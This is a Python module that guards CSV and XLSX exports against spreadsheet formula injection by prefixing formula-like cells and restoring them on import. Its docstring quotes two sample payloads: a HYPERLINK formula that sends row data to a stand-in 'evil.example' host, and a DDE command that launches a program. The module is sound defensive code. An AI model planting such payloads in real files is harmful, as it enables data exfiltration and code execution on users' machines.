"""Spreadsheets we write never hold a live formula (CSV/formula injection, OWASP).

Offer names, addresses and district names come from other people's lists. A cell that
starts with ``=``, ``+``, ``-`` or ``@`` (or a tab, CR or LF, or the full-width forms of
those signs that East Asian Excel versions also accept) is a formula to Excel and
LibreOffice: ``=HYPERLINK("https://evil.example/?"&A2, "Details")`` sends the row away when
clicked, ``=cmd|' /C calc'!A0`` starts a program through DDE. Every CSV and XLSX file we
write goes through this module:

- CSV: such a cell gets a leading apostrophe (``'=HYPERLINK(…)``), the mark spreadsheets
  themselves use for "this is text"; every text cell is quoted, so a ``;`` inside a cell
  cannot start a new cell in a program that splits on semicolons (German Excel).
- XLSX: text is written as a string cell, never as a formula, and cells that would be one
  carry Excel's "quote prefix" style, so they stay text even when someone edits them. The
  value itself is unchanged (no visible apostrophe).
- Numbers stay numbers: a negative *number* is not a formula.

Phone numbers and other figures: a cell that starts with ``+`` or ``-`` followed only by
digits, spaces and ``. , / ( ) % -`` ("+49 631 3652-0", "-5 %", "-2.5") is left as it is.
Without a letter, a quote, ``!``, ``|``, ``&`` or ``:`` nothing in it can name a function,
a cell, a sheet or a program, so a spreadsheet that evaluates it computes at most a number;
prefixing it would show every international phone number with an apostrophe.

Import undoes exactly what we added (:func:`restore`): export followed by import gives the
same text back. The rule is a bijection because a text that already starts with an
apostrophe followed by a formula gets one more.
"""

from __future__ import annotations

import csv
import os
import re
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pandas as pd

#: Leading characters that make a spreadsheet read a cell as a formula (ASCII and full-width).
FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
_SIGNS = frozenset("+-\uff0b\uff0d")
# A sign followed by figures only: a number, a phone number, a range; harmless if evaluated.
_FIGURES = re.compile(r"[+\-\uff0b\uff0d][\d\s.,/()%\-\u2013]*")
MARK = "'"
_SUSPECT_STARTS = sorted(FORMULA_STARTS | {MARK})


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could evaluate ``text`` as a formula that does more than arithmetic.

    Also true for a text that starts with our own mark followed by such a text, so that
    :func:`neutralise` and :func:`restore` undo each other for every text.
    """
    if not text:
        return False
    first = text[0]
    if first == MARK:
        return is_formula_like(text[1:])
    if first not in FORMULA_STARTS:
        return False
    return not (first in _SIGNS and _FIGURES.fullmatch(text))


def neutralise(value: Any) -> Any:
    """``value`` as a CSV cell that no spreadsheet runs: formula-like text gets a leading
    apostrophe; anything else (numbers, other text, None) comes back unchanged."""
    if isinstance(value, str) and is_formula_like(value):
        return MARK + value
    return value


def restore(text: str) -> str:
    """Undo :func:`neutralise` on a cell read from a spreadsheet."""
    if text[:1] == MARK and is_formula_like(text[1:]):
        return text[1:]
    return text


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell neutralised; numeric columns untouched."""
    out = frame.copy()
    for column in out.columns:
        values = out[column]
        if values.dtype == object or pd.api.types.is_string_dtype(values):
            out[column] = _neutralise_column(values)
    return out


def _neutralise_column(values: pd.Series) -> pd.Series:
    # Only cells starting with a trigger or our mark can change: find them vectorised (exports
    # of 100,000 offers would otherwise spend most of their time here).
    try:
        suspect = values.str[:1].isin(_SUSPECT_STARTS)
    except AttributeError:  # no text in the column at all
        return values
    if not suspect.any():
        return values
    values = values.copy()
    values[suspect] = values[suspect].map(neutralise)
    return values


class SafeCsvWriter:
    """``csv.writer`` that neutralises every cell and quotes every text cell."""

    def __init__(self, fh, **kwargs: Any):
        self._writer = csv.writer(fh, quoting=csv.QUOTE_NONNUMERIC, **kwargs)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([_csv_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def _csv_cell(value: Any) -> Any:
    # QUOTE_NONNUMERIC would write None as "" quoted anyway; bools as text, not 1/0.
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    return neutralise(value)


def write_frame_csv(frame: pd.DataFrame, path: str | os.PathLike, *, encoding: str = "utf-8-sig") -> None:
    """Write a table as CSV (header row, no index) with every text cell neutralised and quoted."""
    neutralise_frame(frame).to_csv(Path(path), index=False, encoding=encoding, quoting=csv.QUOTE_NONNUMERIC)


def append_row(sheet, values: Iterable[Any]) -> None:
    """Append one row to an openpyxl worksheet; text never becomes a formula or an error value.

    ``sheet.append`` makes a formula of any text starting with "=" and an error cell of
    "#N/A"; here every text is a string cell, and formula-like text also gets Excel's
    quote-prefix style, so editing the cell keeps it text.
    """
    values = [_xlsx_value(v) for v in values]
    sheet.append(values)
    row = sheet.max_row
    for column, value in enumerate(values, start=1):
        if isinstance(value, str):
            cell = sheet.cell(row=row, column=column)
            cell.data_type = "s"
            if is_formula_like(value):
                cell.quotePrefix = True


def _xlsx_value(value: Any) -> Any:
    # The value stays as it is, except a text that starts with our mark before a formula:
    # it keeps a second mark, so that restore() on import gives it back unchanged.
    if isinstance(value, str) and value[:1] == MARK and is_formula_like(value):
        return MARK + value
    return value
